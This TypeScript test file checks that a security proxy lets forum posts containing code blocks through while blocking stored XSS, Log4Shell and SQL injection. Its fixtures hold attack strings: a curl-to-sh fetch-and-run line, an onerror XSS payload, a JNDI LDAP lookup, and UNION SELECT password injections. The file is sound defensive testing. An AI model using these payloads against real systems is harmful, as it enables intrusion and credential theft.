// Content profiles through the real proxy: the standard baseline and the forum
// example policy, whose OpenAPI specification marks its free-text fields, over
// real sockets in front of a recording origin. Code-carrying posts reach the
// application; stored XSS and Log4Shell in the same fields, and SQL injection
// in identifiers, do not; the decision log names the profile that applied.

import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startOrigin, type Origin } from "../test-support/origin-server.js";
import { BASELINE, REPO, startTestProxy, type TestProxy } from "../test-support/start-test-proxy.js";

const FORUM = path.join(REPO, "examples/policies/app-forum.yaml");
const THREAD = "6f1c2b7e-8a4d-4b8e-9a51-0c9d2f3e4a5b";

let origin: Origin;
let proxy: TestProxy;

beforeAll(async () => {
  origin = await startOrigin();
  proxy = await startTestProxy(["--policy", BASELINE, "--policy", FORUM, "--upstream", origin.url]);
});
afterAll(async () => {
  await proxy.stop();
  await origin.close();
});

async function post(url: string, body: unknown, marker: string): Promise<{ status: number; reached: boolean }> {
  const res = await fetch(`${proxy.url}${url}`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-test-marker": marker },
    body: JSON.stringify(body),
  });
  await res.arrayBuffer();
  return { status: res.status, reached: origin.received.some((r) => r.headers["x-test-marker"] === marker) };
}

const POST_WITH_CODE = [
  "Our cron job breaks after the upgrade:",
  "",
  "```bash",
  "#!/bin/sh",
  "cd /var/www && tar czf /tmp/backup.tgz ../shared && curl -s http://10.0.0.12/hook | sh",
  "```",
  "",
  "```sql",
  "DELETE FROM sessions WHERE expires_at < now() - interval '1 day'; SELECT count(*) FROM users UNION SELECT 1;",
  "```",
].join("\n");

describe("content profiles through the proxy", () => {
  it("forwards a markdown post carrying shell and SQL in code blocks", async () => {
    expect(await post(`/threads/${THREAD}/posts`, { body: POST_WITH_CODE }, "code-post")).toEqual({ status: 200, reached: true });
  });

  it("refuses stored XSS in the same field and names the markdown profile", async () => {
    expect(await post(`/threads/${THREAD}/posts`, { body: "nice <img src=x onerror=alert(document.domain)>" }, "xss-post")).toEqual({
      status: 403,
      reached: false,
    });
    const decision = proxy.decisions().find((d) => d.ruleId === "content.markdown-html");
    expect(decision).toMatchObject({ part: "json-pointer", name: "/body", profile: "field /body: markdown profile", action: "blocked" });
  });

  it("refuses Log4Shell in a content field", async () => {
    expect(await post("/tickets/7/comments", { message: "see log: ${jndi:ldap://x.example.com/a}" }, "jndi")).toEqual({ status: 403, reached: false });
  });

  it("refuses SQL injection in identifier fields (type validation first, the deny rules still at baseline level)", async () => {
    expect((await post(`/threads/${THREAD}/posts`, { body: "ok", replyTo: "1' OR '1'='1" }, "sqli-uuid")).reached).toBe(false);
    expect((await post("/tickets/1%20UNION%20SELECT%201/comments", { message: "ok" }, "sqli-path")).reached).toBe(false);
    expect(await post("/tickets/7/comments", { message: "ok", visibility: "public' UNION SELECT password FROM users--" }, "sqli-enum")).toEqual({
      status: 403,
      reached: false,
    });
  });

  it("keeps the full baseline on fields the specification does not describe", async () => {
    expect(
      await post(`/reviews/${"b".repeat(40)}/comments`, { file: "x' UNION SELECT password FROM users--", line: 1, body: "ok" }, "sqli-undescribed"),
    ).toEqual({ status: 403, reached: false });
  });
});
